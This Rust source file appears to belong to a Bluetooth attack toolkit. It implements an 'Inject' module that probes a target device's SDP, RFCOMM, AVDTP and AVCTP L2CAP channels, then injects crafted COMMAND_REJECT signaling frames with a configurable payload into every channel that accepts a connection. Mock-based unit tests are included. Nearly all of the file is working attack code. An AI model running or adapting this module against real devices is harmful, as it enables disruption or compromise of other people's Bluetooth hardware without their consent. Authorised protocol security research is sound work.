//! Raw signaling-frame injection on fixed PSMs.

use async_trait::async_trait;

use bluefang_codec::l2cap::{self, psm};
use bluefang_common::{AttackKind, BdAddr, BlueResult, Transport};

use crate::module::{AttackContext, AttackModule};
use crate::payloads::injection_payload;
use crate::probe;

/// Control, serial, media-transport and media-control channels.
const TARGET_PSMS: [(u16, &str); 4] = [
    (psm::SDP, "SDP"),
    (psm::RFCOMM, "RFCOMM"),
    (psm::AVDTP, "AVDTP"),
    (psm::AVCTP_BROWSING, "AVCTP"),
];

#[derive(Debug, Default)]
pub struct Inject {
    open: Vec<(u16, &'static str)>,
}

impl Inject {
    pub fn new() -> Self {
        Self::default()
    }
}

#[async_trait]
impl AttackModule for Inject {
    fn kind(&self) -> AttackKind {
        AttackKind::Inject
    }

    async fn check_vulnerability(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let reachable = probe::open(ctx, target, Transport::L2cap, psm::SDP).await?.is_some();
        if reachable {
            ctx.log.info("L2CAP connectivity confirmed");
        }
        Ok(reachable)
    }

    async fn exploit(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        for (psm, label) in TARGET_PSMS {
            ctx.cancel.check()?;
            if probe::open(ctx, target, Transport::L2cap, psm).await?.is_some() {
                ctx.log.detail(format!("{} (PSM {}) accepts connections", label, psm));
                self.open.push((psm, label));
            }
        }
        if self.open.is_empty() {
            ctx.log.warning("No injectable channel accepted a connection");
        }
        Ok(!self.open.is_empty())
    }

    async fn run_payload(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let payload = injection_payload(&ctx.config);
        let frame = l2cap::signaling_command(l2cap::code::COMMAND_REJECT, &payload);
        ctx.log.info(format!("Injecting {}-byte frame", frame.len()));

        let mut injected = 0usize;
        for (psm, label) in self.open.clone() {
            ctx.cancel.check()?;
            let Some(mut sock) = probe::open(ctx, target, Transport::L2cap, psm).await? else {
                ctx.log.warning(format!("{} closed before injection", label));
                continue;
            };
            if !probe::send(ctx, sock.as_mut(), &frame).await? {
                ctx.log.warning(format!("Injection on {} failed", label));
                continue;
            }
            injected += 1;
            match probe::recv(ctx, sock.as_mut()).await? {
                Some(reply) => ctx.log.success(format!("Injected on {}, {} bytes back", label, reply.len())),
                None => ctx.log.success(format!("Injected on {}, no reply", label)),
            }
        }
        Ok(injected > 0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{target, Harness, MockConnector, Reply};

    #[tokio::test]
    async fn injects_on_every_open_channel() {
        let connector = MockConnector::default()
            .accept(Transport::L2cap, psm::SDP, Reply::Echo)
            .accept(Transport::L2cap, psm::AVDTP, Reply::Silent);
        let mut harness = Harness {
            connector: connector.clone(),
            ..Harness::default()
        };
        harness.config.payload = Some("XYZ".into());

        assert!(Inject::new().execute(target(), &harness.context()).await.unwrap());

        let expected = l2cap::signaling_command(l2cap::code::COMMAND_REJECT, b"XYZ");
        assert_eq!(connector.sent(Transport::L2cap, psm::SDP), vec![expected.clone()]);
        assert_eq!(connector.sent(Transport::L2cap, psm::AVDTP), vec![expected]);
        assert!(connector.sent(Transport::L2cap, psm::RFCOMM).is_empty());
    }

    #[tokio::test]
    async fn one_channel_failing_does_not_stop_the_rest() {
        let connector = MockConnector::default()
            .accept(Transport::L2cap, psm::SDP, Reply::Closed)
            .accept(Transport::L2cap, psm::AVCTP_BROWSING, Reply::Silent);
        let harness = Harness {
            connector: connector.clone(),
            ..Harness::default()
        };
        assert!(Inject::new().execute(target(), &harness.context()).await.unwrap());
        let frames = connector.sent(Transport::L2cap, psm::AVCTP_BROWSING);
        assert_eq!(frames.len(), 1);
        assert_eq!(frames[0].len(), 4 + 4 + 1024);
    }

    #[tokio::test]
    async fn unreachable_target_fails_check() {
        let ctx = Harness::default().context();
        assert!(!Inject::new().check_vulnerability(target(), &ctx).await.unwrap());
    }
}
